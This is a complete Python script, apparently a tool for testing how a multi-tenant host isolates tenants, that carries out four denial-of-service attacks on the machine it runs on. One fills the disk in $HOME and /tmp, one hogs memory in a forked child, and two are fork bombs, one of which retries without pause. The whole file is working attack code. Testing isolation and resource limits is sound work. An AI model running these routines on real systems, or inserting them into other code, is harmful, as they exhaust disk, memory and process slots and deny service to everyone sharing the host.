"""A tenant's code that takes all there is of one thing; usage: attack.py disk | memory | forks | spin."""

from __future__ import annotations

import contextlib
import errno
import os
import signal
import sys
from pathlib import Path

BLOCK = b"x" * (4 << 20)


def say(*words: object) -> None:
    sys.stdout.write(" ".join(map(str, words)) + "\n")
    sys.stdout.flush()


def fill_disk() -> None:
    for folder in (os.environ["HOME"], "/tmp"):
        path, written = Path(folder) / "filler", 0
        try:
            with path.open("wb", buffering=0) as file:
                while True:
                    written += file.write(BLOCK)
                    os.fsync(file.fileno())
        except OSError as error:
            say(folder, errno.errorcode[error.errno or 0], "after", written)
        path.unlink()


def fill_memory() -> None:
    hog = os.fork()
    if hog == 0:
        held: list[bytes] = []
        while True:
            # Bytes that are written, as untouched pages take nothing.
            held.append(BLOCK + bytes([len(held) % 256]))
    status = os.waitpid(hog, 0)[1]
    say("the hog ended by", signal.Signals(os.WTERMSIG(status)).name)


def fork_on() -> None:
    """Each child forks on too; who is refused stays where it is."""
    try:
        while True:
            os.fork()
    except OSError:
        signal.pause()


def spin_on() -> None:
    """Each child forks on too; who is refused tries again at once."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()


if __name__ == "__main__":
    attacks = {"disk": fill_disk, "memory": fill_memory, "forks": fork_on, "spin": spin_on}
    attacks[sys.argv[1]]()
